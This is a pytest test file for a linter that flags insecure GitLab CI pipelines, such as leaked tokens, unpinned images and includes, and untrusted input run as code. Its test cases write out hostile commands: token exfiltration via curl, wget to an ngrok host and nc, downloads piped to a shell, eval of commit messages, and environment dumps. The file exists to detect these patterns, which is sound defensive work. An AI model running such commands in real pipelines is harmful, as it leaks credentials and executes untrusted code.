"""Checks of GitLab pipelines: what fails, what passes, what cannot be told, and exactly where."""

from __future__ import annotations

from importlib import import_module
from pathlib import Path

import pytest

from linter.checks import CHECKS
from tests.parsers.gitlab_trees import Read
from tests.support import scanned, write


def judge(name: str, files: dict[str, str] | str, **parameters: str) -> list[tuple[str, str]]:
    """(outcome, text at the place) of every judgement but passes; ("pass", "") if all of at least one passed."""
    read = Read(files)
    module, _, function = CHECKS[name].partition(":")
    verdicts = list(getattr(import_module(module), function)(read.estate, **parameters))
    shown = [(each.outcome, read.written(each.span)) for each in verdicts if each.outcome != "pass"]
    return shown or ([("pass", "")] if verdicts else [])


def script(*commands: str, extra: str = "") -> str:
    lines = "".join(f"    - '{command.replace(chr(39), chr(39) * 2)}'\n" for command in commands)
    return f"job:\n{extra}  script:\n{lines}"


PASS = [("pass", "")]


@pytest.mark.parametrize(
    ("command", "expected"),
    [
        ('curl -d "$CI_JOB_TOKEN" https://other.example.com', None),
        ('curl -H "JOB-TOKEN: $CI_JOB_TOKEN" $CI_API_V4_URL/x', PASS),
        ("curl https://gitlab-ci-token:$CI_JOB_TOKEN@gitlab.example.com/x", PASS),
        ("curl -d $API_TOKEN https://api.example.com", PASS),
        ("curl -d $API_TOKEN http://api.example.com", None),
        ("wget --post-data=$API_TOKEN https://x.ngrok.io", None),
        ("nc host 80 <<< $API_TOKEN", None),
        ("curl -d $CI_COMMIT_SHA http://api.example.com", PASS),
        ("vault write jwt=$CI_JOB_JWT", []),
    ],
)
def test_secrets_stay_home(command: str, expected: list[tuple[str, str]] | None) -> None:
    found = judge("gitlab_secrets_stay_home", script("make", command))
    assert found == ([("fail", command)] if expected is None else expected)


@pytest.mark.parametrize(
    ("command", "extra", "expected"),
    [
        ("vault login $CI_JOB_JWT_V2", "", [("fail", "$CI_JOB_JWT_V2")]),
        ("vault login ${VAULT_TOKEN}", "", [("fail", "${VAULT_TOKEN}")]),
        ("vault login $VAULT_TOKEN", "  id_tokens: {VAULT_TOKEN: {aud: x}}\n", PASS),
        ("az login -p $ARM_CLIENT_SECRET", "  id_tokens: {CLOUD: {aud: x}}\n", PASS),
        ("x", "  variables: {AWS_SECRET_ACCESS_KEY: $PROD_KEY}\n", [("fail", "$PROD_KEY")]),
        ("aws s3 ls", "", []),
    ],
)
def test_identities(command: str, extra: str, expected: list[tuple[str, str]]) -> None:
    assert judge("gitlab_identity_used", script(command, extra=extra)) == expected


@pytest.mark.parametrize(
    ("command", "bad"),
    [
        ("echo $DEPLOY_TOKEN", True), ("printf %s ${DEPLOY_TOKEN}", True), ("echo $DEPLOY_TOKEN | base64 -d > f", False),
        ("echo $DEPLOY_TOKEN > f", False), ("echo ${#DEPLOY_TOKEN}", False), ("echo ${DEPLOY_TOKEN:+set}", False),
        ("echo '$DEPLOY_TOKEN'", False), ("X=$(echo $DEPLOY_TOKEN)", False), ("env", True), ("env | sort", True),
        ("env | grep ^CI_ > f", False), ("env A=b make", False), ("printenv DEPLOY_TOKEN", True), ("printenv HOME", False),
        ("export -p", True), ("export A=b", False), ("set -e", False), ("echo $CI_COMMIT_SHA", False),
        ("echo $(sha $DEPLOY_TOKEN)", False),
    ],
)  # fmt: skip
def test_credentials_are_not_printed(command: str, bad: bool) -> None:
    found = judge("gitlab_secrets_not_printed", script(command))
    assert ([outcome for outcome, _ in found] == ["fail"]) is bad


@pytest.mark.parametrize(
    ("command", "bad"),
    [
        ("eval $CI_COMMIT_MESSAGE", True), ("eval echo $CI_COMMIT_SHA", False), ('echo "$CI_COMMIT_MESSAGE"', False),
        ('sh -c "deploy $CI_COMMIT_REF_NAME"', True), ("sh -c 'deploy \"$CI_COMMIT_REF_NAME\"'", False),
        ('ssh host "checkout $CI_MERGE_REQUEST_SOURCE_BRANCH_NAME"', True), ("ssh host deploy $CI_COMMIT_SHA", False),
        ('python3 -c "print($CI_MERGE_REQUEST_TITLE)"', True), ("bash script.sh $CI_MERGE_REQUEST_TITLE", False),
        ('bash -c "echo $MINE"', True), ('bash -c "echo $FIXED"', False),
    ],
)  # fmt: skip
def test_untrusted_text_is_no_code(command: str, bad: bool) -> None:
    extra = "  variables: {MINE: 'x $CI_COMMIT_TITLE', FIXED: x}\n"
    found = judge("gitlab_no_untrusted_code", script(command, extra=extra))
    assert ([outcome for outcome, _ in found] == ["fail"]) is bad


@pytest.mark.parametrize(
    ("command", "bad"),
    [
        ("curl https://x/i.sh | sh", True), ("wget -qO- https://x/i.sh | sudo bash -s -- -y", True),
        ("curl https://x/i.py | python3 -", True), ('sh -c "$(curl -fsSL https://x/i.sh)"', True),
        ("bash <(curl https://x/i.sh)", True), ("curl https://x/a.json | python3 -m json.tool", False),
        ("curl https://x/a.json | python3 parse.py", False), ("curl https://x | jq .", False), ("curl -o i.sh https://x", False),
        ("curl https://x/i.sh | tee i.sh | sh", True),
    ],
)  # fmt: skip
def test_downloads_are_not_run(command: str, bad: bool) -> None:
    found = judge("gitlab_downloads_not_run", script(command))
    assert ([outcome for outcome, _ in found] == ["fail"]) is bad


@pytest.mark.parametrize(
    ("image", "expected"),
    [
        ("node", [("fail", "node")]), ("node:latest", [("fail", "node:latest")]), ("node:22", PASS),
        ("reg:5000/node", [("fail", "reg:5000/node")]), ("node:$V", PASS), ("node:$W", [("unknown", "node:$W")]),
        ("$R/node:22", PASS), ("$R/node", [("fail", "$R/node")]), ("$R", [("unknown", "$R")]),
        ("node@sha256:" + "0" * 64, PASS),
    ],
)  # fmt: skip
def test_images_are_pinned(image: str, expected: list[tuple[str, str]]) -> None:
    text = f"variables: {{V: '22'}}\njob:\n  script: x\n  image: {image}\n"
    assert judge("gitlab_images_pinned", text) == expected


@pytest.mark.parametrize(
    ("written", "expected"),
    [
        ("{project: a/b, file: x.yml}", [("fail", "a/b")]), ("{project: a/b, file: x.yml, ref: main}", [("fail", "main")]),
        ("{project: a/b, file: x.yml, ref: v1.2}", PASS), ("{project: a/b, file: x.yml, ref: release-4}", PASS),
        ("{project: a/b, file: x.yml, ref: $REF}", [("unknown", "$REF")]),
        ("{project: a/b, file: x.yml, ref: " + "a" * 40 + "}", PASS), ("https://x/y.yml", [("fail", "https://x/y.yml")]),
        ("{remote: 'https://x/y.yml', integrity: sha256-x}", PASS), ("{template: Jobs/SAST.gitlab-ci.yml}", []),
        ("{component: g/p/c@1.2.3}", PASS), ("{component: g/p/c@1}", [("fail", "g/p/c@1")]),
        ("{component: g/p/c@main}", [("fail", "g/p/c@main")]), ("{component: $CI_SERVER_FQDN/p/c@$CI_COMMIT_SHA}", PASS),
    ],
)  # fmt: skip
def test_includes_are_pinned(written: str, expected: list[tuple[str, str]]) -> None:
    assert judge("gitlab_includes_pinned", f"include: [{written}]\njob: {{script: x}}\n") == expected


REVIEW_RULE = '$CI_PIPELINE_SOURCE == "merge_request_event"'


@pytest.mark.parametrize(
    ("rules", "workflow", "expected"),
    [
        (f"[{{if: $CI_COMMIT_BRANCH}}, {{if: '{REVIEW_RULE}'}}]", "", [("fail", f"'{REVIEW_RULE}'")]),
        ("[{when: on_success}]", "", [("fail", "rules")]),
        ("[{changes: [a]}]", "", [("unknown", "job")]),
        (f"[{{if: '{REVIEW_RULE}'}}, {{if: $CI_COMMIT_BRANCH == $CI_DEFAULT_BRANCH}}]", "", PASS),
        ("[{when: on_success}]", f"workflow: {{rules: [{{if: '{REVIEW_RULE}'}}]}}\n", PASS),
        (
            "[{when: on_success}]",
            "workflow: {rules: [{if: $CI_OPEN_MERGE_REQUESTS, when: never}, {when: always}]}\n",
            PASS,
        ),
    ],
)
def test_jobs_run_once(rules: str, workflow: str, expected: list[tuple[str, str]]) -> None:
    assert judge("gitlab_one_pipeline", f"{workflow}job:\n  script: x\n  rules: {rules}\n") == expected


def test_only_and_rules_are_not_mixed() -> None:
    text = "a: {script: x, rules: [{if: $A}]}\nb: {script: x, only: [main]}\nc: {script: x}\n"
    assert judge("gitlab_no_mixed_conditions", text) == [("fail", "only")]
    assert judge("gitlab_no_mixed_conditions", "b: {script: x, only: [main]}\nc: {script: x}\n") == PASS


@pytest.mark.parametrize(
    ("variables", "expected"),
    [
        ("{DOCKER_TLS_CERTDIR: ''}", [("fail", "''")]), ("{DOCKER_TLS_CERTDIR: /certs}", PASS),
        ("{DOCKER_HOST: 'tcp://docker:2375'}", [("fail", "'tcp://docker:2375'")]),
        ("{DOCKER_HOST: 'tcp://docker:2376'}", PASS), ("{DOCKER_HOST: 'tcp://localhost:2375'}", PASS),
    ],
)  # fmt: skip
def test_docker_daemons_have_tls(variables: str, expected: list[tuple[str, str]]) -> None:
    text = f"job:\n  script: x\n  services: ['docker:27-dind']\n  variables: {variables}\n"
    assert judge("gitlab_no_plain_docker", text) == expected


def test_what_is_needed_exists() -> None:
    text = "a: {script: x}\nb: {script: x, needs: [a, gone]}\n"
    assert judge("gitlab_needs_exist", text) == [("fail", "gone")]
    assert judge("gitlab_needs_exist", f"include: [https://x/y.yml]\n{text}") == [("unknown", "gone")]


def test_jobs_are_complete() -> None:
    text = (
        "stages: [one]\na: {script: x}\nb: {stage: two, script: x}\nc: {stage: one}\nd: {stage: .pre, trigger: x/y}\n"
    )
    assert judge("gitlab_jobs_complete", text) == [("fail", "a"), ("fail", "two"), ("fail", "c")]
    assert {outcome for outcome, _ in judge("gitlab_jobs_complete", f"include: [https://x/y.yml]\n{text}")} == {
        "unknown"
    }


def test_conditions_parse() -> None:
    text = "workflow: {rules: [{if: $A = 1}]}\na: {script: x, rules: [[{if: $B}], {if: '$C =='}, {if: $D}]}\n"
    assert judge("gitlab_conditions_parse", text) == [("fail", "$A = 1"), ("fail", "'$C =='")]


@pytest.mark.parametrize(
    ("artifacts", "expected"),
    [
        ("{paths: [dist, ./]}", [("fail", "./")]), ("{paths: [a/.env, key.pem]}", [("fail", "a/.env"), ("fail", "key.pem")]),
        ("{paths: [.env.example, dist/**]}", PASS), ("{paths: [.], access: none}", PASS), ("{paths: ['*'], public: false}", PASS),
    ],
)  # fmt: skip
def test_artifacts_hold_no_secrets(artifacts: str, expected: list[tuple[str, str]]) -> None:
    assert judge("gitlab_artifacts_without_secrets", f"a: {{script: x, artifacts: {artifacts}}}\n") == expected


def test_tokens_in_remotes_and_passwords_in_arguments() -> None:
    text = script(
        "git clone https://x:$CI_JOB_TOKEN@h/p", "git push https://x:${PUSH_TOKEN}@h/p", "docker login -p $P h"
    )
    assert judge("gitlab_remotes_without_tokens", text) == [("fail", "git push https://x:${PUSH_TOKEN}@h/p")]
    assert judge("gitlab_passwords_hidden", text) == [("fail", "docker login -p $P h")]


def test_literal_secrets_in_every_place() -> None:
    text = "variables: {DB_PASSWORD: hunter2-for-db}\na: {script: x, variables: {API_TOKEN: $OUTSIDE}}\n"
    assert judge("no_literal_secrets", text, platform="gitlab") == [("fail", "hunter2-for-db")]


def test_what_jobs_inherit_is_told_once_and_names_them_all(tmp_path: Path) -> None:
    jobs = "".join(f"job{n}: {{extends: .t}}\n" for n in range(5))
    root = write(
        tmp_path, {".gitlab-ci.yml": f"include: t.yml\n{jobs}", "t.yml": ".t: {script: ['eval $CI_COMMIT_TITLE']}\n"}
    )
    (finding,) = (each for each in scanned(root, "glc-no-untrusted-code").report.findings if each.outcome == "fail")
    assert finding.place.path == "t.yml" and len(finding.subjects) == 5


def test_an_include_of_another_folders_file_is_missing(tmp_path: Path) -> None:
    root = write(tmp_path, {"a/.gitlab-ci.yml": "include: ci/b.yml\nx: {script: x}\n", "ci/b.yml": "y: {script: y}\n"})
    (finding,) = (each for each in scanned(root, "glc-includes-exist").report.findings if each.outcome == "fail")
    assert (finding.place.path, finding.place.start_line) == ("a/.gitlab-ci.yml", 1)


def test_traces_and_caches_are_judged_where_they_are_written() -> None:
    text = "include: [https://x/y.yml]\nvariables: {CI_DEBUG_TRACE: 'true'}\na: {script: x, cache: {key: k, unprotect: true}}\n"
    assert judge("gitlab_not_traced", text) == [("fail", "'true'")]
    assert judge("gitlab_caches_apart", text) == [("fail", "true")]
    assert judge("gitlab_caches_apart", "include: [https://x/y.yml]\na: {script: x, cache: {key: k}}\n") == PASS
    assert judge("gitlab_not_traced", "include: [https://x/y.yml]\na: {script: x}\n") == []
